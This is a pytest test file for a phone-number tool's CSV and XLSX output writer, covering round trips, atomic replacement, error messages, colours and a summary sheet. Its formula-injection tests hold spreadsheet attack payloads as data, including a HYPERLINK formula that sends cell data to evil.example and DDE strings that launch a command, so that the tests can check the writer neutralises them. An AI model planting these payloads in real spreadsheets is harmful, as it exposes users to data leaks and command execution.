"""Tests for addin.engine.sinks: round trips, atomic replacement and formula injection."""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
import python_calamine

from addin.engine.sinks import (
    ANSWER_COLOURS,
    ANSWER_COLUMNS,
    OUTPUT_COLUMNS,
    XLSX_MAX_CELL,
    XLSX_MAX_COLUMNS,
    IndexedRows,
    cell_text,
    write_output,
)

REPOSITORY = Path(__file__).resolve().parents[2]

CHECKED = dt.datetime(2024, 10, 19, 18, 24, 56, 450567, tzinfo=dt.UTC)
ROWS: list[list[object]] = [
    ["+41 79 828 46 51", "+41798284651", "yes", None, "upstream", CHECKED],
    [41798284652.0, "+41798284652", "no", "", "cache", "2024-10-19T18:24:56Z"],
    ["0798284653", None, "invalid", "national number needs a region", None, None],
    [None, None, "invalid", "empty cell", None, None],
    ["+41798284654", "+41798284654", "error", "no answer was recorded", "demo", None],
]
EXPECTED = [
    list(OUTPUT_COLUMNS),
    ["+41 79 828 46 51", "+41798284651", "yes", "", "upstream", "2024-10-19T18:24:56Z"],
    ["41798284652", "+41798284652", "no", "", "cache", "2024-10-19T18:24:56Z"],
    ["0798284653", "", "invalid", "national number needs a region", "", ""],
    ["", "", "invalid", "empty cell", "", ""],
    ["+41798284654", "+41798284654", "error", "no answer was recorded", "demo", ""],
]


def read_csv(path: Path) -> list[list[str]]:
    """Read a CSV written by write_output back as rows of text."""
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def read_xlsx(path: Path) -> list[list[object]]:
    """Read the first sheet of a workbook back with calamine."""
    sheet = python_calamine.CalamineWorkbook.from_path(path).get_sheet_by_index(0)
    return [list(row) for row in sheet.iter_rows()]


def one_row(value: object) -> list[list[object]]:
    """Return a single output row whose input is ``value``."""
    return [[value, None, "invalid", "x", None, None]]


def failing_rows(after: int) -> Iterator[list[object]]:
    """Yield good rows, then fail the way a crashed producer would."""
    yield from ROWS[:after]
    raise RuntimeError("producer died")


def leftovers(folder: Path, keep: set[str]) -> list[str]:
    """Return the names in ``folder`` other than ``keep`` (temporary files left behind)."""
    return sorted(path.name for path in folder.iterdir() if path.name not in keep)


# --- round trips ---------------------------------------------------------------------


def test_csv_round_trip(tmp_path: Path) -> None:
    """Every column comes back as text; the file starts with a UTF-8 byte-order mark."""
    path = tmp_path / "out.csv"
    assert write_output(path, ROWS) == len(ROWS)
    assert path.read_bytes().startswith(codecs.BOM_UTF8 + b"input,e164,")
    assert b"\r\n" in path.read_bytes()
    assert read_csv(path) == EXPECTED


def test_xlsx_round_trip_with_calamine(tmp_path: Path) -> None:
    """All cells are text, so leading zeros and '+' survive and numbers stay digits."""
    path = tmp_path / "out.xlsx"
    assert write_output(path, ROWS) == len(ROWS)
    assert read_xlsx(path) == EXPECTED


def test_xlsx_round_trip_with_openpyxl(tmp_path: Path) -> None:
    """openpyxl sees string cells, a bold header, a frozen first row and a filter."""
    path = tmp_path / "out.xlsx"
    write_output(path, ROWS)
    sheet = openpyxl.load_workbook(path).active
    assert sheet.title == "Results"
    expected = ["0798284653", None, "invalid", "national number needs a region", None, None]
    assert [cell.value for cell in sheet[4]] == expected
    assert {cell.data_type for row in sheet.iter_rows(min_row=2) for cell in row if cell.value} == {
        "s"
    }
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:F6"


@pytest.mark.parametrize("name", ["out.csv", "out.xlsx"])
def test_no_rows_gives_a_header_only(tmp_path: Path, name: str) -> None:
    """An empty job still writes a valid file with its header."""
    path = tmp_path / name
    assert write_output(path, iter(())) == 0
    rows = read_csv(path) if name.endswith(".csv") else read_xlsx(path)
    assert rows == [list(OUTPUT_COLUMNS)]


def test_upper_case_extension(tmp_path: Path) -> None:
    """OUT.XLSX is an .xlsx."""
    path = tmp_path / "OUT.XLSX"
    write_output(path, ROWS)
    assert read_xlsx(path) == EXPECTED


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (None, ""),
        ("0798284651", "0798284651"),
        (41798284651.0, "41798284651"),
        (41798284651, "41798284651"),
        (1.5, "1.5"),
        (1e20, "1e+20"),
        (float("nan"), "nan"),
        (True, "TRUE"),
        (False, "FALSE"),
        (dt.datetime(2024, 1, 2, 3, 4, 5), "2024-01-02T03:04:05"),
        (
            dt.datetime(2024, 1, 2, 4, 4, 5, tzinfo=dt.timezone(dt.timedelta(hours=1))),
            "2024-01-02T03:04:05Z",
        ),
        (dt.date(2024, 1, 2), "2024-01-02"),
        (dt.time(3, 4), "03:04:00"),
        (dt.timedelta(hours=1), "1:00:00"),
    ],
)
def test_cell_text(value: object, text: str) -> None:
    """Cell values become the text a user expects to see."""
    assert cell_text(value) == text


def test_naive_check_time_is_taken_as_utc(tmp_path: Path) -> None:
    """checked_at without a time zone is written as UTC."""
    path = tmp_path / "out.csv"
    write_output(path, [["x", None, "invalid", "x", None, dt.datetime(2024, 1, 2, 3, 4, 5)]])
    assert read_csv(path)[1][5] == "2024-01-02T03:04:05Z"


def test_output_replaces_an_existing_file(tmp_path: Path) -> None:
    """A second run overwrites the previous result completely."""
    path = tmp_path / "out.csv"
    write_output(path, ROWS)
    write_output(path, ROWS[:1])
    assert read_csv(path) == EXPECTED[:2]


def test_output_file_gets_ordinary_permissions(tmp_path: Path) -> None:
    """The result is as readable as any file the user creates (the umask decides)."""
    path = tmp_path / "out.csv"
    write_output(path, ROWS)
    ordinary = tmp_path / "ordinary"
    ordinary.write_text("x")
    assert path.stat().st_mode == ordinary.stat().st_mode


# --- atomicity and errors ------------------------------------------------------------


@pytest.mark.parametrize("name", ["out.csv", "out.xlsx"])
def test_failure_midway_leaves_no_file(tmp_path: Path, name: str) -> None:
    """When the rows run out with an error, there is no output and no temporary file."""
    with pytest.raises(RuntimeError, match="producer died"):
        write_output(tmp_path / name, failing_rows(after=3))
    assert leftovers(tmp_path, keep=set()) == []


@pytest.mark.parametrize("name", ["out.csv", "out.xlsx"])
def test_failure_midway_keeps_the_previous_file(tmp_path: Path, name: str) -> None:
    """A failed run leaves the previous result byte for byte."""
    path = tmp_path / name
    write_output(path, ROWS)
    before = path.read_bytes()
    with pytest.raises(RuntimeError, match="producer died"):
        write_output(path, failing_rows(after=2))
    assert path.read_bytes() == before
    assert leftovers(tmp_path, keep={name}) == []


@pytest.mark.parametrize("name", ["out.csv", "out.xlsx"])
def test_row_of_the_wrong_width(tmp_path: Path, name: str) -> None:
    """A row without six values is a programming error named with its row number."""
    rows: list[list[object]] = [ROWS[0], ["too", "short"]]
    with pytest.raises(ValueError, match="output row 2 has 2 values; expected 6"):
        write_output(tmp_path / name, rows)
    assert leftovers(tmp_path, keep=set()) == []


@pytest.mark.parametrize(("name", "shown"), [("out.txt", "'.txt'"), ("out", "no extension")])
def test_unknown_extension(tmp_path: Path, name: str, shown: str) -> None:
    """Only .csv and .xlsx are written."""
    with pytest.raises(ValueError, match=f"cannot write {shown}; the output must be .csv or .xlsx"):
        write_output(tmp_path / name, ROWS)
    assert leftovers(tmp_path, keep=set()) == []


def test_missing_folder(tmp_path: Path) -> None:
    """A destination folder that does not exist is an OSError, with nothing created."""
    with pytest.raises(FileNotFoundError):
        write_output(tmp_path / "missing" / "out.csv", ROWS)
    assert leftovers(tmp_path, keep=set()) == []


def test_xlsx_row_limit(tmp_path: Path) -> None:
    """More rows than a sheet holds fails cleanly and suggests CSV."""
    with pytest.raises(ValueError, match=r"holds at most 3 rows below its header; write a \.csv"):
        write_output(tmp_path / "out.xlsx", ROWS, xlsx_max_rows=3)
    assert leftovers(tmp_path, keep=set()) == []


# --- formula injection ---------------------------------------------------------------


@pytest.mark.parametrize(
    "attack",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "=1+1",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "-",
    ],
)
def test_csv_neutralises_formulas(tmp_path: Path, attack: str) -> None:
    """Text Excel would run as a formula gets a leading apostrophe in CSV."""
    path = tmp_path / "out.csv"
    write_output(path, one_row(attack))
    assert read_csv(path)[1][0] == "'" + attack


@pytest.mark.parametrize(
    "phone", ["+41798284651", "+41 (0)79 828-46.51", "-41798284651", "+1 201/555 0123"]
)
def test_csv_leaves_phone_numbers_alone(tmp_path: Path, phone: str) -> None:
    """Digits with phone punctuation cannot call anything, so E.164 stays '+41...'."""
    path = tmp_path / "out.csv"
    write_output(path, [[phone, "+41798284651", "yes", None, "demo", None]])
    assert read_csv(path)[1][:2] == [phone, "+41798284651"]


def test_csv_other_columns_are_guarded_too(tmp_path: Path) -> None:
    """The guard applies to every column, not only the input."""
    path = tmp_path / "out.csv"
    write_output(path, [["x", None, "invalid", "=1+1", "@x", None]])
    assert read_csv(path)[1] == ["x", "", "invalid", "'=1+1", "'@x", ""]


def test_xlsx_stores_formulas_as_plain_text(tmp_path: Path) -> None:
    """In .xlsx a would-be formula is a text cell: no <f> element, no apostrophe."""
    path = tmp_path / "out.xlsx"
    attack = '=HYPERLINK("http://evil.example","x")'
    write_output(path, one_row(attack) + one_row("+cmd|' /C calc'!A0"))
    with zipfile.ZipFile(path) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    assert [row[0] for row in read_xlsx(path)[1:]] == [attack, "+cmd|' /C calc'!A0"]
    cell = openpyxl.load_workbook(path).active["A2"]
    assert (cell.value, cell.data_type) == (attack, "s")


def test_xlsx_replaces_characters_excel_forbids(tmp_path: Path) -> None:
    """Control characters that XML cannot hold become U+FFFD instead of failing."""
    path = tmp_path / "out.xlsx"
    write_output(path, one_row("+41\x0179\x1b828"))
    assert read_xlsx(path)[1][0] == "+41\ufffd79\ufffd828"


def test_xlsx_truncates_cells_over_excels_limit(tmp_path: Path) -> None:
    """Excel refuses cells over 32,767 characters, so longer input is cut with an ellipsis."""
    path = tmp_path / "out.xlsx"
    write_output(path, one_row("9" * 40_000))
    value = read_xlsx(path)[1][0]
    assert isinstance(value, str)
    assert len(value) == XLSX_MAX_CELL
    assert value.endswith("…")


# --- the user's columns, colours and the summary ------------------------------------

CONTACT_COLUMNS = ("Name", "Phone", *ANSWER_COLUMNS)
CONTACT_ROWS: list[list[object]] = [
    ["Alice", "+41798284651", "+41798284651", "yes", "", "cache", "2024-10-19T18:24:56Z"],
    ["Bob", "0798284652", "+41798284652", "no", "", "vendor", "2024-10-19T18:24:57Z"],
    ["Carol", "abc", "", "invalid", "contains letters", "", ""],
    ["Dan", "0798284653", "+41798284653", "pending", "no answer yet", "", ""],
]


@pytest.mark.parametrize("name", ["out.csv", "out.xlsx"])
def test_user_columns_come_first(tmp_path: Path, name: str) -> None:
    """Any columns ending with the answer columns are written in order, header first."""
    path = tmp_path / name
    assert write_output(path, CONTACT_ROWS, columns=CONTACT_COLUMNS) == 4
    rows = read_csv(path) if name.endswith(".csv") else read_xlsx(path)
    assert rows[0] == list(CONTACT_COLUMNS)
    assert [row[:2] for row in rows[1:]] == [["Alice", "+41798284651"], ["Bob", "0798284652"],
                                             ["Carol", "abc"], ["Dan", "0798284653"]]  # fmt: skip


def test_columns_must_end_with_the_answers(tmp_path: Path) -> None:
    """A column list without the answer columns at its end is a programming error."""
    with pytest.raises(ValueError, match="must end with e164, facebook"):
        write_output(tmp_path / "out.csv", [], columns=("a", "b"))
    assert leftovers(tmp_path, keep=set()) == []


def test_xlsx_column_limit(tmp_path: Path) -> None:
    """More columns than a sheet holds fails before writing anything."""
    columns = tuple(f"c{i}" for i in range(XLSX_MAX_COLUMNS)) + ANSWER_COLUMNS
    with pytest.raises(ValueError, match=r"at most 16,384 columns.*write a \.csv"):
        write_output(tmp_path / "out.xlsx", [], columns=columns)
    assert leftovers(tmp_path, keep=set()) == []


def test_xlsx_colours_answers_by_conditional_format(tmp_path: Path) -> None:
    """One rule per answer over the facebook column, in the task pane's colours, no cell fills."""
    path = tmp_path / "out.xlsx"
    write_output(path, CONTACT_ROWS, columns=CONTACT_COLUMNS)
    sheet = openpyxl.load_workbook(path)["Results"]
    ((target, rules),) = sheet.conditional_formatting._cf_rules.items()
    assert str(target.sqref) == "D2:D5"
    found = {
        rule.formula[0].strip('"'): (rule.dxf.fill.bgColor.rgb[2:], rule.dxf.font.color.rgb[2:])
        for rule in rules
    }
    assert found == ANSWER_COLOURS
    assert {cell.fill.fill_type for row in sheet.iter_rows() for cell in row} == {None}
    assert sheet.auto_filter.ref == "A1:G5"
    assert sheet.freeze_panes == "A2"


def test_answer_colours_are_the_task_panes(tmp_path: Path) -> None:
    """ANSWER_COLOURS says what addin/static/excel-actions.js colours each answer with."""
    source = (REPOSITORY / "addin" / "static" / "excel-actions.js").read_text(encoding="utf-8")
    pane = {
        text: (fill.upper(), font.upper())
        for text, fill, font in re.findall(
            r'\{ text: "(\w+)", fill: "#(\w{6})", font: "#(\w{6})" \}', source
        )
    }
    assert {name: pane[name] for name in ANSWER_COLOURS} == ANSWER_COLOURS


def test_xlsx_summary_counts_and_charts_the_answers(tmp_path: Path) -> None:
    """The Summary sheet counts each answer, pending and the total, under a native bar chart."""
    path = tmp_path / "out.xlsx"
    write_output(path, CONTACT_ROWS, columns=CONTACT_COLUMNS)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Results", "Summary"]
    summary = book["Summary"]
    assert [[cell.value for cell in row] for row in summary.iter_rows()] == [
        ["answer", "count"],
        ["yes", 1],
        ["no", 1],
        ["ban", 0],
        ["invalid", 1],
        ["error", 0],
        ["pending", 1],
        ["total", 4],
    ]
    (chart,) = summary._charts
    assert type(chart).__name__ == "BarChart"
    (series,) = chart.series
    assert series.val.numRef.f == "'Summary'!$B$2:$B$6"
    assert series.cat.numRef.f == "'Summary'!$A$2:$A$6"


# --- rows given once per distinct index ------------------------------------------------

# Every kind of field the CSV writer treats apart: delimiters, quotes, line ends, formula
# starts (harmless and not), blanks, spaces, non-text values, Unicode.
AWKWARD: list[list[object]] = [
    *ROWS,
    ['say "hi", then', "+41798284651", "yes", 'a "quoted" reason', "cache", CHECKED],
    ["line\nbreak", None, "invalid", "carriage\rreturn", None, None],
    ["\r\n", None, "invalid", ",", None, None],
    ["=1+1", None, "invalid", "@SUM(1)", "-", "+"],
    ["+41 (0)79 828-46.51", "+41798284651", "no", "", "demo", "2024-10-19T18:24:56Z"],
    ["-41798284651", None, "invalid", "negative number", None, None],
    ["\t=1", None, "invalid", "\r=1", None, None],
    ["  ", "", "", "", "", ""],
    ['"', '""', "'", "x,y", "a\r\nb", " lead"],
    [True, 7, 1.5, 41798284651.0, dt.date(2024, 1, 2), None],
    ["０７９ ８２８ ４６ ５１", "+٤١", "ü", "é,è", "", ""],
]


@pytest.mark.parametrize("name", ["out.csv", "out.xlsx"])
def test_indexed_rows_write_the_same_bytes_as_the_rows(tmp_path: Path, name: str) -> None:
    """Rows given as distinct rows and an order give the file the rows themselves give."""
    order = [3, 0, 0, 5, 15, 14, 1, 2, 3, 4, 6, 7, 8, 9, 10, 11, 12, 13, 15, 0, 7, 7]
    plain, indexed = tmp_path / "plain", tmp_path / "indexed"
    plain.mkdir()
    indexed.mkdir()
    built: list[int] = []

    def row_of(index: int) -> list[object]:
        """Return a distinct row, noting that it was built."""
        built.append(index)
        return AWKWARD[index]

    rows = [AWKWARD[index] for index in order]
    assert write_output(plain / name, rows) == len(order)
    assert write_output(indexed / name, IndexedRows(row_of, order)) == len(order)
    if name.endswith(".csv"):
        assert (indexed / name).read_bytes() == (plain / name).read_bytes()
        assert sorted(built) == sorted(set(order))  # each distinct row built once
    else:
        assert read_xlsx(indexed / name) == read_xlsx(plain / name)


def test_indexed_rows_share_answer_tails_by_text_only(tmp_path: Path) -> None:
    """Rows sharing their answer columns share one rendering; equal values of other types do not.

    ``1``, ``1.0`` and ``True`` are equal in Python but render as ``1``, ``1`` and ``TRUE``.
    """
    distinct: list[list[object]] = [
        ["a", "+1", "yes", "", "upstream", "2024-10-19T18:24:56Z"],
        ["=b", "+2", "yes", "", "upstream", "2024-10-19T18:24:56Z"],
        ["c", "+3", "1", "1", "1", "1"],
        ["d", "+4", 1, 1.0, True, 1],
        ["e", "+5", "1", "1", "1", "1"],
        ["f", "+6", True, 1, 1.0, dt.datetime(2024, 10, 19, 18, 24, 56)],
        ["g,h", "+7", "no", "x,y", "=z", "2024-10-19T18:24:56Z"],
        ["i", "+8", "no", "x,y", "=z", "2024-10-19T18:24:56Z"],
    ]
    order = [0, 1, 2, 3, 4, 5, 6, 7, 3, 2, 5]
    plain, indexed = tmp_path / "plain.csv", tmp_path / "indexed.csv"
    write_output(plain, [distinct[index] for index in order])
    write_output(indexed, IndexedRows(distinct.__getitem__, order))
    assert indexed.read_bytes() == plain.read_bytes()
    rows = read_csv(indexed)
    assert rows[4][2:] == ["1", "1", "TRUE", "1"]
    assert rows[6][2:] == ["TRUE", "1", "1", "2024-10-19T18:24:56Z"]


def test_indexed_rows_of_the_wrong_width(tmp_path: Path) -> None:
    """A malformed distinct row is named by the first output row that uses it."""
    distinct: list[list[object]] = [ROWS[0], ["too", "short"]]
    with pytest.raises(ValueError, match="output row 3 has 2 values; expected 6"):
        write_output(tmp_path / "out.csv", IndexedRows(distinct.__getitem__, [0, 0, 1]))
    assert leftovers(tmp_path, keep=set()) == []


def test_indexed_rows_cross_the_block_size(tmp_path: Path) -> None:
    """More rows than one block of lines: every row written once, in order."""
    order = [index % 3 for index in range(70_001)]
    distinct = [[f"+4179828465{index}", None, "invalid", "x", None, None] for index in range(3)]
    path = tmp_path / "out.csv"
    assert write_output(path, IndexedRows(distinct.__getitem__, order)) == len(order)
    rows = read_csv(path)
    assert len(rows) == len(order) + 1
    assert [row[0][-1] for row in rows[1:]] == [str(index) for index in order]
